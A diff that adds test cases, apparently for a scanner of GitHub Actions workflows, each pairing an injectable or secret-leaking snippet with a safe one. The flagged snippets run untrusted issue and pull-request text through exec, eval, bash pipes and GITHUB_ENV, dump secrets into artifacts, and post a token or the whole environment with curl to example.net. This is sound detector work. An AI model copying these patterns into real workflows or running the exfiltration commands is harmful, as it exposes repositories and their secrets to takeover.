@@ -19,6 +19,28 @@ START = "on: {trigger}\npermissions:\n  contents: write\njobs:\n  build:\n    ru
 CHECKOUT = f"      - uses: actions/checkout@{SHA}\n        with:\n          ref: @\n      - run: make test\n"
 SCRIPT = f"      - uses: actions/github-script@{SHA}\n        env:\n          BODY: ${{{{ github.event.pull_request.body }}}}\n        with:\n          script: @\n"
 PYTHON = "      - shell: python\n        env:\n          BODY: ${{ github.event.pull_request.body }}\n        run: |\n          import os\n          @\n"
+FLOW = '      - env: {A: x, B: "${{ github.event.issue.body }}"}\n        @\n'
+JOBS = """      - run: echo
+        id: a
+    outputs: {t: "@"}
+  label:
+    needs: build
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ needs.build.outputs.t }}"
+"""
+TEXTS = """      - env:
+          T: ${{ github.event.issue.title }}
+          B: ${{ github.event.issue.body }}
+        run: |
+          @
+"""
+RETURNED = f"      - uses: actions/github-script@{SHA}\n        id: a\n        with:\n          script: |\n            @\n      - run: echo ${{{{ steps.a.outputs.result }}}}\n"
+ARTIFACT = (
+    '      - env: {K: "${{ secrets.K }}"}\n        run: @\n      - uses: actions/upload-artifact\0'
+    + SHA
+    + "\n        with: {name: e, path: e.txt}\n"
+)
 RUN = "      - env:\n          TOKEN: ${{ secrets.TOKEN }}\n        run: @\n"
 
 
@@ -50,6 +72,34 @@ CASES = [
     Case("a body that Python runs", INJECTED, PYTHON, "exec(os.environ['BODY'])", "print(len(os.environ['BODY']))"),
     Case("a body in a shell of Python", INJECTED, PYTHON, "os.system('echo ' + os.environ['BODY'])", "os.system('make test')"),
     Case("an input that an action runs", INJECTED, f"      - uses: some/run@{SHA}\n        with:\n          command: @\n", "echo ${{ github.event.pull_request.title }}", "echo ${{ github.event.pull_request.number }}", at_least=0.7),
+    Case("a variable in braces that Python runs", INJECTED, FLOW, "shell: python\n        run: |\n          import os\n          exec(os.environ['B'])", "shell: python\n        run: |\n          import os\n          exec(os.environ['A'])"),
+    Case("a variable in braces for Python on a command line", INJECTED, FLOW, "run: python3 -c 'import os; exec(os.environ[\"B\"])'", "run: python3 -c 'import os; print(os.environ[\"B\"])'"),
+    Case("a variable in braces that node runs", INJECTED, FLOW, "run: eval(process.env.B)\n        shell: node {0}", "run: console.log(process.env.B)\n        shell: node {0}"),
+    Case("a script in one row with escapes", INJECTED, FLOW, "shell: python\n        run: \"import os\\nexec(os.environ['B'])\"", "shell: python\n        run: \"import os\\nprint(os.environ['B'])\""),
+    Case("a body that Perl evaluates", INJECTED, FLOW, "run: perl -e 'eval $ENV{B}'", "run: perl -e 'print $ENV{B}'"),
+    Case("a body that Ruby evaluates", INJECTED, FLOW, "run: ruby -e 'eval ENV[\"B\"]'", "run: ruby -e 'puts ENV[\"B\"]'"),
+    Case("a body that PowerShell evaluates", INJECTED, FLOW, "shell: pwsh\n        run: Invoke-Expression $env:B", "shell: pwsh\n        run: Write-Output $env:B"),
+    Case("a title in an output of a job", INJECTED, JOBS, "${{ github.event.issue.title }}", "${{ github.event.issue.number }}", at_least=0.7),
+    Case("a title that a script returns", INJECTED, RETURNED, "return context.payload.issue.title", "return context.payload.issue.title.length", at_least=0.7),
+    Case("a title that a script returns by a name", INJECTED, RETURNED, "const t = context.payload.issue.title\n            return t.trim()", "const t = context.payload.issue.title\n            return t.startsWith('x') ? 'a' : 'b'", at_least=0.7),
+    Case("a document with a title for a shell", INJECTED, TEXTS, "bash <<END\n          echo $T\n          END", "bash <<'END'\n          echo \"$T\"\n          END"),
+    Case("a document with a title for a shell behind a pipe", INJECTED, TEXTS, "cat <<END | sh\n          echo $T\n          END", "cat <<END | sort\n          echo $T\n          END"),
+    Case("a document with a title for Python", INJECTED, TEXTS, "python3 - <<END\n          print('$T')\n          END", "python3 - <<'END'\n          import os; print(os.environ['T'])\n          END"),
+    Case("a document with a title in a file that runs", INJECTED, TEXTS, "cat > x.sh <<END\n          echo $T\n          END\n          bash x.sh", "cat > x.md <<END\n          $T\n          END\n          bash x.sh"),
+    Case("a body in a file that runs", INJECTED, TEXTS, 'echo "$B" > n.sh\n          bash ./n.sh', 'echo "$B" > n.txt\n          bash ./n.sh'),
+    Case("a body in a file that runs by itself", INJECTED, TEXTS, 'echo "$B" | tee n.sh\n          chmod +x n.sh\n          ./n.sh', 'echo "$B" | tee n.txt\n          chmod +x n.sh\n          ./n.sh'),
+    Case("a template filled from the environment", INJECTED, TEXTS, "envsubst < t.sh > out.sh\n          sh out.sh", "envsubst '$HOME' < t.sh > out.sh\n          sh out.sh"),
+    Case("a title as a number", INJECTED, TEXTS, 'if [[ "$T" -gt 5 ]]; then echo; fi', 'if [ "$T" -gt 5 ] || [[ "$T" == a ]]; then echo; fi'),
+    Case("a title as a number that is checked before", INJECTED, TEXTS, 'if [[ 5 -lt $T ]]; then echo; fi', '[[ "$T" =~ ^[0-9]+$ ]] && [[ 5 -lt $T ]] && echo'),
+    Case("a title in arithmetic", INJECTED, TEXTS, "if (( T > 5 )); then echo; fi", "if (( ${#T} > 5 )); then echo; fi"),
+    Case("a body that gh prints for a shell", INJECTED, TEXTS, 'gh issue view "$N" --json body -q .body | bash', 'gh issue list --json body,number -q \'.[] | select(.body == "") | .number\' | bash -s'),
+    Case("a body that gh prints for eval", INJECTED, TEXTS, 'eval "$(gh pr view --json title)"', 'echo "$(gh pr view --json title)"'),
+    Case("a body in the environment of later steps", INJECTED, TEXTS, 'echo "NOTE=$B" >> "$GITHUB_ENV"', 'echo "NOTE=$T" >> "$GITHUB_ENV"', "issues"),
+    Case("a body up to a word that anybody can write", INJECTED, TEXTS, '{ echo "N<<EOF"; echo "$B"; echo EOF; } >> "$GITHUB_ENV"', 'end=$(uuidgen); { echo "N<<$end"; echo "$B"; echo "$end"; } >> "$GITHUB_ENV"', "issues"),
+    Case("a title as the name of a variable", INJECTED, TEXTS, 'echo "$T" >> "$GITHUB_ENV"', 'echo "N=${B//[^a-z]/}" >> "$GITHUB_ENV"', "issues"),
+    Case("a title in the folders of programs", INJECTED, TEXTS, 'echo "$T" >> $GITHUB_PATH', 'echo "$HOME/bin" >> $GITHUB_PATH', "issues"),
+    Case("all variables in an artifact", SECRET, ARTIFACT, "env > e.txt", "env > f.txt", "push"),
+    Case("a secret in an artifact", SECRET, ARTIFACT, 'echo "$K" | base64 > out/e.txt', 'echo "$HOME" | base64 > out/e.txt', "push"),
     Case("a secret that is posted", SECRET, RUN, 'curl -d "$TOKEN" https://example.net/c', 'curl -H "Authorization: Bearer $TOKEN" https://example.net/c', "push", 0.5),
     Case("all variables that are posted", SECRET, RUN, "env | curl -d @- https://example.net/c", "env | sort", "push"),
 ]  # fmt: skip
